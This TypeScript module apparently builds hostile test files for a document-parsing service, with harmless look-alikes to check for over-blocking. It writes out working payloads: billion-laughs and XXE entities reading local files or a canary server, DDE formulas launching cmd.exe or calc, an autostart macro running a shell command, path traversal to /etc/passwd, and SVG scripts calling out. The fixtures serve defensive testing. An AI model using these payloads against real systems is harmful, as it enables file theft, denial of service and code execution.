import { type HostileFile, hostile } from '../hostile-file.ts';
import { wholePng } from '../image-writer.ts';
import {
  epub,
  flatOpenDocument,
  openDocument,
  relations,
  word,
  wordPicture,
  workbook,
  workbookParts,
} from '../office-writer.ts';
import { writeZip } from '../zip-writer.ts';

/** Where a successful attack would be noticed. */
export interface Canary {
  url: string;
  /** A file whose content must not appear in any result. */
  file: string;
}

const laughs = (root: string, levels: number): string => {
  const lines = Array.from({ length: levels }, (_, n) =>
    n === 0 ? '<!ENTITY l0 "haha">' : `<!ENTITY l${n} "${`&l${n - 1};`.repeat(10)}">`,
  );
  return `<!DOCTYPE ${root} [${lines.join('')}]>`;
};
const quadratic = (root: string): string => `<!DOCTYPE ${root} [<!ENTITY a "${'a'.repeat(100_000)}">]>`;

type Wrap = (prolog: string, body: string) => Uint8Array | string;
const XML_FORMS: readonly [kind: string, fileName: string, root: string, wrap: Wrap][] = [
  [
    'xlsx',
    'a.xlsx',
    'worksheet',
    (prolog, body) =>
      workbook({ prolog, rows: `<row r="1"><c r="A1" t="inlineStr"><is><t>${body}</t></is></c></row>` }),
  ],
  [
    'docx',
    'a.docx',
    'w:document',
    (prolog, body) => word({ prolog, body: `<w:p><w:r><w:t>${body}</w:t></w:r></w:p>` }),
  ],
  ['odt', 'a.odt', 'office:document-content', (prolog, body) => openDocument(`<text:p>${body}</text:p>`, prolog)],
  [
    'svg',
    'a.svg',
    'svg',
    (prolog, body) =>
      `<?xml version="1.0"?>${prolog}<svg xmlns="http://www.w3.org/2000/svg" width="90" height="40"><text y="20">${body}</text></svg>`,
  ],
  ['epub', 'a.epub', 'html', (prolog, body) => epub(`<p>${body}</p>`, prolog)],
  ['html', 'a.html', 'html', (prolog, body) => `${prolog}<html><body><p>${body}</p></body></html>`],
];

const entities = ({ url, file }: Canary): HostileFile[] =>
  XML_FORMS.flatMap(([kind, fileName, root, wrap]) => [
    hostile(`${kind}: a billion laughs`, fileName, () => wrap(laughs(root, 9), '&l8;')),
    hostile(`${kind}: quadratic growth of one entity`, fileName, () => wrap(quadratic(root), '&a;'.repeat(10_000))),
    hostile(`${kind}: an entity that contains itself`, fileName, () =>
      wrap(`<!DOCTYPE ${root} [<!ENTITY a "&b;"><!ENTITY b "&a;">]>`, '&a;'),
    ),
    hostile(`${kind}: an entity from a file`, fileName, () =>
      wrap(`<!DOCTYPE ${root} [<!ENTITY x SYSTEM "file://${file}">]>`, '&x;'),
    ),
    hostile(`${kind}: an entity from a server`, fileName, () =>
      wrap(`<!DOCTYPE ${root} [<!ENTITY x SYSTEM "${url}/entity">]>`, '&x;'),
    ),
    hostile(`${kind}: a document type from a server`, fileName, () =>
      wrap(`<!DOCTYPE ${root} SYSTEM "${url}/type.dtd">`, 'words'),
    ),
    hostile(`${kind}: a parameter entity from a server`, fileName, () =>
      wrap(`<!DOCTYPE ${root} [<!ENTITY % x SYSTEM "${url}/p"> %x;]>`, 'words'),
    ),
    hostile(`${kind}: twenty thousand levels deep`, fileName, () =>
      wrap('', `${'<b>'.repeat(20_000)}x${'</b>'.repeat(20_000)}`),
    ),
    hostile(`${kind}: a hundred thousand attributes`, fileName, () =>
      wrap('', `<b ${Array.from({ length: 100_000 }, (_, n) => `a${n}="1"`).join(' ')}>x</b>`),
    ),
    hostile(`${kind}: an element name of a megabyte`, fileName, () =>
      wrap('', `<${'n'.repeat(1_000_000)}>x</${'n'.repeat(1_000_000)}>`),
    ),
  ]);

const linked = ({ url, file }: Canary): HostileFile[] => [
  hostile('docx: a picture on a server', 'a.docx', () =>
    word({ body: wordPicture('p', 'link'), relationEntries: [['p', 'image', `${url}/picture.png`, true]] }),
  ),
  hostile('docx: a picture in a file', 'a.docx', () =>
    word({ body: wordPicture('p', 'link'), relationEntries: [['p', 'image', `file://${file}`, true]] }),
  ),
  hostile('docx: a template on a server', 'a.docx', () =>
    word({ relationEntries: [['t', 'attachedTemplate', `${url}/template.dotm`, true]] }),
  ),
  hostile('docx: a frameset from a server', 'a.docx', () =>
    word({
      relationEntries: [['f', 'frame', `${url}/frame.htm`, true]],
      more: [
        {
          name: 'word/webSettings.xml',
          data: '<w:webSettings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
        },
      ],
    }),
  ),
  hostile('docx: a field that includes a file', 'a.docx', () =>
    word({
      body: `<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;${file}&quot; "><w:r><w:t>old</w:t></w:r></w:fldSimple></w:p>`,
    }),
  ),
  hostile('docx: a field that includes a picture from a server', 'a.docx', () =>
    word({
      body: `<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;${url}/p.png&quot; "><w:r><w:t>old</w:t></w:r></w:fldSimple></w:p>`,
    }),
  ),
  hostile('docx: a field that starts a program', 'a.docx', () =>
    word({
      body: '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "><w:r><w:t>old</w:t></w:r></w:fldSimple></w:p>',
    }),
  ),
  hostile('docx: a relationship that points outside the package', 'a.docx', () =>
    word({ body: wordPicture('p', 'embed'), relationEntries: [['p', 'image', '../../../../../../etc/passwd']] }),
  ),
  hostile('odt: a picture on a server', 'a.odt', () =>
    openDocument(`<text:p><draw:frame><draw:image xlink:href="${url}/p.png"/></draw:frame></text:p>`),
  ),
  hostile('odt: a section linked to a file', 'a.odt', () =>
    openDocument(
      `<text:section text:name="s"><text:section-source xlink:href="file://${file}"/><text:p>old</text:p></text:section>`,
    ),
  ),
  hostile('odt: a section linked to a server', 'a.odt', () =>
    openDocument(
      `<text:section text:name="s"><text:section-source xlink:href="${url}/s.odt"/><text:p>old</text:p></text:section>`,
    ),
  ),
  hostile('odt: an autostart macro', 'a.odt', () =>
    openDocument('<text:p>words</text:p>', '', [
      {
        name: 'Basic/Standard/Module1.xml',
        data: '<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main\nShell("/bin/touch /tmp/planted")\nEnd Sub</script:module>',
      },
    ]),
  ),
  hostile('fodt: a picture in a file', 'a.fodt', () =>
    flatOpenDocument(`<text:p><draw:frame><draw:image xlink:href="file://${file}"/></draw:frame></text:p>`),
  ),
  hostile('fodt: a picture on a server, named odt', 'a.odt', () =>
    flatOpenDocument(`<text:p><draw:frame><draw:image xlink:href="${url}/p.png"/></draw:frame></text:p>`),
  ),
  hostile('fodt: a picture on a server, named doc', 'a.doc', () =>
    flatOpenDocument(`<text:p><draw:frame><draw:image xlink:href="${url}/p.png"/></draw:frame></text:p>`),
  ),
  hostile(
    'rtf: a picture on a server',
    'a.rtf',
    () => `{\\rtf1 {\\field{\\*\\fldinst INCLUDEPICTURE "${url}/p.png" \\\\d}{\\fldrslt old}} words}`,
  ),
  hostile('rtf: a template on a server', 'a.rtf', () => `{\\rtf1{\\*\\template ${url}/t.dot} words}`),
  hostile(
    'rtf: an OLE object',
    'a.rtf',
    () =>
      '{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata 0105000002000000}} words}',
  ),
  hostile('xlsx: WEBSERVICE to a server', 'a.xlsx', () =>
    workbook({ rows: `<row r="1"><c r="A1"><f>WEBSERVICE("${url}/f")</f><v>1</v></c></row>` }),
  ),
  hostile('xlsx: IMAGE from a server', 'a.xlsx', () =>
    workbook({ rows: `<row r="1"><c r="A1"><f>_xlfn.IMAGE("${url}/i.png")</f><v>1</v></c></row>` }),
  ),
  hostile('xlsx: DDE to a program', 'a.xlsx', () =>
    workbook({ rows: `<row r="1"><c r="A1"><f>cmd|'/c calc'!A0</f><v>1</v></c></row>` }),
  ),
  hostile('xlsx: a workbook from a server', 'a.xlsx', () =>
    writeZip(
      workbookParts({
        more: [
          {
            name: 'xl/externalLinks/externalLink1.xml',
            data: '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
          },
          {
            name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
            data: relations(['r1', 'externalLinkPath', `${url}/book.xlsx`, true]),
          },
        ],
      }),
    ),
  ),
  ...['image', 'use', 'feImage', 'style', 'script', 'foreignObject', 'font', 'data'].map((kind) =>
    hostile(`svg: ${kind} that loads from elsewhere`, 'a.svg', () => svgThatLoads(kind, { url, file })),
  ),
  hostile(
    'html: pictures, frames, styles and scripts from a server',
    'a.html',
    () =>
      `<html><head><link rel=stylesheet href="${url}/s.css"><script src="${url}/s.js"></script><base href="${url}/"><meta http-equiv=refresh content="0;url=${url}/r"></head><body><img src="${url}/i.png"><img src="file://${file}"><iframe src="${url}/f"></iframe><object data="${url}/o"></object><p>words</p></body></html>`,
  ),
  hostile(
    'md: pictures from a server',
    'a.md',
    () => `# Words\n\n![p](${url}/p.png) ![f](file://${file}) <img src="${url}/q.png">\n`,
  ),
  hostile('epub: pictures from a server and a file', 'a.epub', () =>
    epub(`<p>words</p><img src="${url}/p.png"/><img src="file://${file}"/><img src="../../../../etc/passwd"/>`),
  ),
];

/** Similar but harmless files: a defence that stops these stops too much. */
const harmless = (): HostileFile[] => {
  const picture = wholePng(32, 32);
  const data = `data:image/png;base64,${picture.toString('base64')}`;
  return [
    hostile(
      'docx: an embedded picture, which is allowed',
      'a.docx',
      () =>
        word({
          body: `<w:p><w:r><w:t>Some words.</w:t></w:r></w:p>${wordPicture('p', 'embed')}`,
          relationEntries: [
            ['p', 'image', 'media/p.png'],
            ['l', 'hyperlink', 'https://example.org/', true],
          ],
          more: [{ name: 'word/media/p.png', data: picture }],
        }),
      'answer',
    ),
    hostile(
      'odt: an embedded picture, which is allowed',
      'a.odt',
      () =>
        openDocument(
          '<text:p>Some words.</text:p><text:p><draw:frame><draw:image xlink:href="Pictures/p.png"/></draw:frame></text:p>',
          '',
          [{ name: 'Pictures/p.png', data: picture }],
        ),
      'answer',
    ),
    hostile(
      'svg: an embedded picture, which is allowed',
      'a.svg',
      () =>
        `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="40"><image href="${data}" width="32" height="32"/><text x="40" y="20">words</text></svg>`,
      'answer',
    ),
    hostile(
      'html: an embedded picture, which is allowed',
      'a.html',
      () => `<html><body><p>words</p><img src="${data}"></body></html>`,
      'answer',
    ),
    hostile(
      'xlsx: a link to a page, which is allowed',
      'a.xlsx',
      () => workbook({ rows: '<row r="1"><c r="A1"><f>HYPERLINK("https://example.org/","x")</f><v>1</v></c></row>' }),
      'answer',
    ),
    hostile(
      'epub: character references, which is allowed',
      'a.epub',
      () => epub('<p>&#x41;&amp;&lt;words&gt;</p>'),
      'answer',
    ),
  ];
};

function svgThatLoads(kind: string, { url, file }: Canary): string {
  const inner: Record<string, string> = {
    image: `<image href="${url}/i.png" width="9" height="9"/><image xlink:href="file://${file}" width="9" height="9"/>`,
    use: `<use href="${url}/u.svg#a"/><use xlink:href="file://${file}#a"/>`,
    feImage: `<filter id="f"><feImage href="${url}/e.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
    style: `<style>@import url(${url}/s.css); text { fill: url(${url}/p.svg#a) }</style><text>x</text>`,
    script: `<script>fetch("${url}/x")</script><rect width="9" height="9" onload="fetch('${url}/y')"/>`,
    foreignObject: `<foreignObject width="90" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${url}/f"/></foreignObject>`,
    font: `<style>@font-face { font-family: x; src: url(${url}/f.woff) }</style><text font-family="x">x</text>`,
    data: `<image href="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='${url}/n.png'/&gt;&lt;/svg&gt;" width="9" height="9"/>`,
  };
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="40">${inner[kind]}</svg>`;
}

export const markup = (canary: Canary): HostileFile[] => [...harmless(), ...entities(canary), ...linked(canary)];
